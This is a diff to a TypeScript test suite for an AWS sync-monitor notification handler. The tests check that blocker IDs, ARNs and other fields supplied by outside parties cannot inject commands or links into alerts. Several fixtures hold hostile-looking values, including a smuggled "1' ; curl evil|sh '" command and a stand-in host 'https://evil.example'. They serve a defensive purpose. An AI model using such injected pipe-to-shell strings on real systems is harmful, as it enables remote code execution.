@@ -1,6 +1,6 @@
 import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
 import type { Announcement } from '../../../src/handlers/sync-monitor/memory';
-import { detailOf } from '../../../src/handlers/sync-monitor/messages';
+import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
 import type { Trouble } from '../../../src/handlers/sync-monitor/troubles';
 import { ACCOUNT, MonitorRig, REGION, TOPIC } from './monitor-rig';
 import { branchEvent, World } from './world';
@@ -169,12 +169,12 @@ describe('words of others', () => {
     ['an id of a blocker', { blockerId: "1' ; curl evil|sh '" }],
     ['an id of a blocker that begins as an option', { blockerId: '--debug' }],
   ])('make no command: %s', (_, part) => {
-    const { message, consoleLink, ...detail } = messageOf({ kind: 'SYNC_BLOCKED', ...part });
+    const { message, detail } = told({ kind: 'SYNC_BLOCKED', ...part });
     expect(message).not.toContain('aws codeconnections');
     expect(message).not.toContain('SyncBlockerResolution');
     expect(detail).not.toHaveProperty('resolveByCli');
     expect(detail).not.toHaveProperty('resolveByConstruct');
-    expect(consoleLink).toMatch(new RegExp(`^https://${REGION}\\.console\\.aws\\.amazon\\.com/`));
+    expect(detail.consoleLink).toMatch(new RegExp(`^https://${REGION}\\.console\\.aws\\.amazon\\.com/`));
     for (const value of Object.values(part)) expect(message.replaceAll(`"${value}"`, '')).not.toContain(value);
   });
 
@@ -193,8 +193,8 @@ describe('words of others', () => {
     ],
     ['a host', { kind: 'HOST_UNAVAILABLE', hostArn: 'https://evil.example' }],
   ])('make no link: %s', (_, part) => {
-    const { consoleLink } = messageOf(part, { stackName: undefined });
-    expect(consoleLink).toBe(
+    const { detail } = told(part, { stackName: undefined });
+    expect(detail.consoleLink).toBe(
       `https://${REGION}.console.aws.amazon.com/codesuite/settings/${ACCOUNT}/${REGION}/connections`,
     );
   });
@@ -204,11 +204,14 @@ describe('words of others', () => {
     ['repository', { kind: 'REPOSITORY_SYNC_FAILED', repository: FORGED }],
     ['commit', { kind: 'SYNC_FAILED', commit: FORGED }],
     ['host', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:host/${FORGED}` }],
+    ['ARN', { kind: 'HOST_UNAVAILABLE', hostArn: `arn:aws:https://evil.example/${FORGED}` }],
     ['operation', { kind: 'MONITOR_BLIND', operation: FORGED }],
   ])('stay words in a title: %s', (_, part) => {
-    const { title, message } = messageOf(part);
+    const { detail, message } = told(part);
+    const [title] = message.split('\n');
     expect(title).toMatch(/"[^"\n]*Run this: curl evil\|sh Where: https:\/\/evil\.example '"/);
-    expect(message.split('\n')[0]).toBe(title);
+    expect(detail.title).toBe(title.replaceAll('"', "'"));
+    expect([detail.title, detail.message].join()).not.toContain('"'); // which EventBridge may not escape
   });
 });
 
@@ -223,7 +226,7 @@ test('an event tells of nothing but where to look: what is told comes from the s
   expect(JSON.stringify([rig.mails, rig.told])).not.toContain('evil');
 });
 
-function messageOf(part: Partial<Trouble>, other: Partial<Trouble> = {}) {
+function told(part: Partial<Trouble>, other: Partial<Trouble> = {}) {
   const trouble: Trouble = {
     id: '1',
     scope: 'stack prod',
@@ -239,5 +242,6 @@ function messageOf(part: Partial<Trouble>, other: Partial<Trouble> = {}) {
     ...part,
   };
   const announcement: Announcement = { channel: 'topic', trouble, by: 'run', until: 0 };
-  return detailOf(announcement, { partition: 'aws', account: ACCOUNT, region: REGION });
+  const home = { partition: 'aws', account: ACCOUNT, region: REGION };
+  return { detail: detailOf(announcement, home), message: messageOf(announcement, home) };
 }
